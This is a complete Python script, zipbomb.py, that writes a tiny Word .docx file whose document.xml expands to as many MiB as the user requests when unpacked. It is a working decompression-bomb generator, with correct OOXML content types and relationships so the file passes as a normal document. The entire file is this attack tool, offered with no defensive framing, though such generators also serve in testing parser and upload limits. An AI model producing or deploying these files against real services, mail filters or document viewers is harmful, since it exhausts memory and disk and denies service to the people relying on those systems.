# SPDX-License-Identifier: GPL-3.0-or-later
"""zipbomb.py FILE MIB: a Word file of few bytes, whose text has as many MiB when it is unpacked."""
import sys
import zipfile

TYPES = """<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/word/document.xml"
 ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>"""
RELATIONS = """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Target="word/document.xml"
 Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/></Relationships>"""
HEAD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
PARAGRAPHS = b"<w:p><w:r><w:t>bomb</w:t></w:r></w:p>" * 28000

with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED, compresslevel=1) as file:
    file.writestr("[Content_Types].xml", TYPES)
    file.writestr("_rels/.rels", RELATIONS)
    with file.open("word/document.xml", "w", force_zip64=True) as text:
        text.write(HEAD)
        for _ in range(int(sys.argv[2])):
            text.write(PARAGRAPHS)
        text.write(b"</w:body></w:document>")
